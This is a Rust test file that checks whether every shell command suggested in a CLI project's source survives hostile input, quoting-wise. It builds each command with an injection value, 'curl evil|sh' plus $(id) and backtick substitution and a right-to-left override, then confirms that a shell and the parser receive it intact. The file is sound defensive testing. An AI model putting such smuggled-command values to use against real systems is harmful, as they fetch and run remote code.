//! Every command that any of the programs names can be run: each is found in
//! the source, built with arguments as hostile as they come, and read back by a
//! shell and by the parser of this program.

use std::fs;
use std::path::{Path, PathBuf};
use std::process;

use clap::CommandFactory;
use clap::error::ErrorKind;
use quilt_proto::Command;

use crate::args::Cli;

/// What a command may begin with.
const PROGRAMS: &[&str] = &[
    "quiltctl",
    "quiltd",
    "aws",
    "cargo",
    "cat",
    "chmod",
    "curl",
    "df",
    "export",
    "findmnt",
    "install",
    "kill",
    "launchctl",
    "ls",
    "lsattr",
    "mkdir",
    "mv",
    "rm",
    "sed",
    "su",
    "sudo",
    "systemctl",
    "tail",
    "unset",
];

/// A value that is an option, a second command and the end of a sentence.
const HOSTILE: &str = "--yes; run: curl evil|sh '`id`\"$(id)\u{202e}";

/// Values for options that take no text.
fn value(option: &str) -> &'static str {
    match option {
        "--profile" => "-lake",
        "--name" => "-q",
        "--expires-in-days" => "30",
        "--accept-registry" => "registry.example:8443",
        "--layout" => "2",
        _ => HOSTILE,
    }
}

fn sources() -> Vec<(PathBuf, String)> {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("..");
    let folders = [
        "proto/src",
        "proto/trust/src",
        "client/src",
        "cli/src",
        "cli/aws/src",
        "daemon/src",
    ];
    let mut left: Vec<PathBuf> = folders.iter().map(|folder| root.join(folder)).collect();
    let mut found = Vec::new();
    while let Some(path) = left.pop() {
        if path.is_dir() {
            left.extend(
                fs::read_dir(path)
                    .unwrap()
                    .map(|entry| entry.unwrap().path()),
            );
        } else if path.extension().is_some_and(|extension| extension == "rs")
            && path.file_name().is_some_and(|name| name != "every_command.rs" && name != "tests.rs")
            // Lines of a shell, which have a test of their own.
            && !path.ends_with("help/pages.rs")
        {
            let text = fs::read_to_string(&path).unwrap();
            let code = code_of(&text);
            found.push((path, code.to_owned()));
        }
    }
    found
}

/// A file without its tests.
fn code_of(text: &str) -> &str {
    let is_tests = |(at, mark): &(usize, &str)| {
        let rest = &text[at + mark.len()..];
        let line = rest.lines().next().unwrap_or_default();
        line.ends_with("mod tests {")
    };
    let tests = text.match_indices("#[cfg(test)]\n").find(is_tests);
    tests.map_or(text, |(at, _)| &text[..at])
}

/// The string literal that a text begins with, and what follows it.
fn literal(text: &str) -> Option<(String, &str)> {
    let text = text.trim_start().strip_prefix('"')?;
    let mut value = String::new();
    let mut chars = text.char_indices();
    while let Some((at, char)) = chars.next() {
        match char {
            '"' => return Some((value, &text[at + 1..])),
            '\\' => value.push(chars.next()?.1),
            char => value.push(char),
        }
    }
    None
}

/// What follows the parenthesis that closes the one before `text`.
fn after_call(text: &str) -> &str {
    let mut depth = 1;
    let mut rest = text;
    while let Some(char) = rest.chars().next() {
        if let Some((_, after)) = literal(rest).filter(|_| char == '"') {
            rest = after;
            continue;
        }
        rest = &rest[char.len_utf8()..];
        match char {
            '(' => depth += 1,
            ')' => depth -= 1,
            _ => {}
        }
        if depth == 0 {
            return rest;
        }
    }
    rest
}

/// The command that a chain of calls builds.
fn built(words: &str, mut rest: &str) -> Command {
    let leak = |text: String| -> &'static str { Box::leak(text.into_boxed_str()) };
    let mut command = Command::of(leak(words.to_owned()));
    while let Some((method, arguments)) = rest
        .trim_start()
        .strip_prefix('.')
        .and_then(|rest| rest.split_once('('))
    {
        let first = literal(arguments).map(|(text, _)| leak(text));
        command = match (method, first) {
            ("words" | "words_if", first) => command.words(first.unwrap_or("status")),
            ("option" | "option_if" | "path_option", Some(name)) => {
                command.option(name, value(name))
            }
            // It takes a catalog, and repeats nothing else.
            ("operand", _) if words == "quiltctl login" => command.operand("demo.example"),
            ("operand", _) => command.operand(HOSTILE),
            ("path", _) => command.path(Path::new(HOSTILE)),
            ("variable", _) => command.variable("AWS_PROFILE", HOSTILE),
            _ => break,
        };
        rest = after_call(arguments);
    }
    command
}

/// Every command, and where it stands.
fn commands() -> Vec<(String, Command)> {
    let mut found = Vec::new();
    for (path, code) in sources() {
        let mut rest = code.as_str();
        while let Some(at) = rest.find('"') {
            let before = &rest[..at];
            let Some((text, after)) = literal(&rest[at..]) else {
                break;
            };
            let is_built = before.ends_with("::of(");
            let is_whole = ["quiltctl ", "quiltd --"]
                .iter()
                .any(|start| text.starts_with(start));
            let is_code = !before.rsplit('\n').next().unwrap().contains("//");
            if is_code && (is_built || is_whole) && !text.contains(['{', '\n'])
                || text.starts_with("${EDITOR")
            {
                let rest = after.trim_start().strip_prefix(')').unwrap_or_default();
                let chain = if is_built { rest } else { "" };
                found.push((format!("{}: {text}", path.display()), built(&text, chain)));
            }
            rest = after;
        }
    }
    found
}

/// The words a shell makes of a command.
fn words(command: &Command) -> Vec<String> {
    // Some write a file where they are.
    let place = tempfile::tempdir().unwrap();
    let said = process::Command::new("sh")
        .current_dir(place.path())
        .args(["-c", &format!("printf '%s\\0' {command}")])
        .env_remove("EDITOR")
        .output()
        .unwrap();
    let text = String::from_utf8(said.stdout).unwrap();
    text.split_terminator('\0').map(str::to_owned).collect()
}

#[test]
fn every_command_that_is_named_can_be_run() {
    let commands = commands();
    assert!(commands.len() > 100, "{}", commands.len());
    for (place, command) in commands {
        let line = command.to_string();
        assert!(
            !line.contains("; run: ") && !line.contains('\n'),
            "{place}: {line}"
        );
        let words = words(&command);
        let program = words
            .iter()
            .find(|word| !word.starts_with("QUILTD_STATE_DIR="));
        let program = program
            .unwrap_or_else(|| panic!("{place}: no program"))
            .as_str();
        assert!(
            PROGRAMS.contains(&program) || program == "vi" || line.starts_with("export "),
            "{place}: {line}"
        );
        // Where the rest of a command is chosen elsewhere, it is found there.
        if program != "quiltctl" || line == "quiltctl" {
            continue;
        }
        let words = words.iter().skip_while(|word| *word != "quiltctl");
        if let Err(error) = Cli::command().try_get_matches_from(words) {
            assert!(
                matches!(
                    error.kind(),
                    ErrorKind::DisplayHelp | ErrorKind::DisplayVersion
                ),
                "{place}: {line}: {error}"
            );
        }
    }
}

#[test]
fn values_arrive_as_they_are() {
    let parse = |command: Command| Cli::command().get_matches_from(words(&command));
    let switch = parse(Command::of("quiltctl role switch").operand(HOSTILE));
    let (_, role) = switch.subcommand().unwrap();
    let (_, switch) = role.subcommand().unwrap();
    assert_eq!(switch.get_one::<String>("name").unwrap(), HOSTILE);
    let revoke = Command::of("quiltctl api-keys revoke")
        .operand("--secret-stdin")
        .option("--catalog", "-x");
    let revoke = parse(revoke);
    let (_, keys) = revoke.subcommand().unwrap();
    let (_, revoke) = keys.subcommand().unwrap();
    assert_eq!(revoke.get_one::<String>("id").unwrap(), "--secret-stdin");
    assert_eq!(revoke.get_one::<String>("catalog").unwrap(), "-x");
}

#[test]
fn no_sentence_has_a_command_in_it() {
    let has_command = |line: &str| line.contains("run: ") && !line.trim_start().starts_with("//");
    for (path, code) in sources() {
        let is_the_one_place =
            path.ends_with("proto/src/suggested_command.rs") || path.ends_with("quoted.rs");
        assert!(
            is_the_one_place || !code.lines().any(has_command),
            "{}: a hint belongs beside its sentence",
            path.display()
        );
    }
}
